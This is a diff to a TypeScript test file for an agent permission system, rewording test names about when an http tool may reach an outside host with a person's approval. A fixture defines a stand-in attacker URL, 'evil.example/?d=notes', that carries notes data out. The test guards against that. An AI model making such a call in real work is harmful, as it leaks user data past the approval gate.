@@ -26,7 +26,7 @@ afterEach(async () => {
 const evil = 'https://evil.example/?d=notes'
 const reads = (url: string): UpstreamScript => callsTool('http__get', { url })
 
-/** A run in a session, where somebody can be asked. */
+/** A run in a session, where a person can be asked. */
 async function runInSession(): Promise<{ readonly at: string; readonly view: Answer }> {
   const { id } = await callJson('/api/sessions', { json: {} })
   const { run } = await callJson(`/api/sessions/${id}/runs`, { json: { task: 'go' } })
@@ -48,7 +48,7 @@ const viaV1 = async (): Promise<string> => {
 }
 
 describe('the network of the http tools', () => {
-  it('P4, I20: is closed: a page elsewhere is read when somebody has seen host, method and address, once', async () => {
+  it('P4, I20: is closed: a page elsewhere is read when a person has seen host, method and address, once', async () => {
     world(({ messages }) => {
       const answers = messages.filter(({ role }) => role === 'tool')
       return answers.length === 2
@@ -72,7 +72,7 @@ describe('the network of the http tools', () => {
     expect(asked).toEqual([evil])
   })
 
-  it('refuses where nobody can be asked, and says which host and how to allow it', async () => {
+  it('refuses where no person can be asked, and says which host and how to allow it', async () => {
     world(reads(evil))
     expect(await viaV1()).toMatch(/tool_denied.*evil\.example.*isola http allow evil\.example/s)
     await callJson('/api/operator/exposed', { json: { exposed: { tools: ['http__get'] } } })
@@ -97,7 +97,7 @@ describe('the network of the http tools', () => {
     expect([view.state, asked]).toEqual(['completed', []])
   })
 
-  it('opens a host for everybody without a restart, and closes it, on the record; the rest of the policy stays', async () => {
+  it('opens a host for every principal without a restart, and closes it, on the record; the rest of the policy stays', async () => {
     await callJson('/api/operator/policy', { json: { policy: { deny: ['kv__list'] } } })
     const { notes } = await change({ allow: ['Evil.example'] })
     expect(notes).toEqual(['+ http tools reach evil.example'])
